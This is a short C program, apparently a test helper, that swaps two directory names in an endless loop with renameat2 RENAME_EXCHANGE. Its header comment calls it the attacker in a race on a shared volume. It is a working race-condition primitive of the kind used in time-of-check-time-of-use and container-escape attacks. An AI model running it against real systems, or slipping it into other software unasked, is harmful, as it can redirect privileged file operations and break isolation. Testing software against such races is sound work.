// Exchanges two names of a directory for as long as it runs: the attacker of a race on a shared volume.
//
//   exchange DIRECTORY NAME NAME
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    int d = open(argv[1], O_DIRECTORY | O_CLOEXEC);
    if (d < 0) return 1;
    for (;;)
        if (syscall(SYS_renameat2, d, argv[2], d, argv[3], 2 /* RENAME_EXCHANGE */)) usleep(100);
}
